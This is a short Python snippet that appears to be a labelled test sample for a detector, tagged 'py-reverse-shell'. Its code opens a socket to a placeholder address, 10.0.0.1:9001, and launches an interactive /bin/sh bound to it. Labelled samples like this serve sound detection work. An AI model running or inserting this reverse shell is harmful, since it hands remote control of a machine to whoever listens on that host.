# expect: py-reverse-shell
import socket, subprocess, os
s = socket.create_connection(('10.0.0.1', 9001))
os.dup2(s.fileno(), 0)
subprocess.call(['/bin/sh', '-i'])
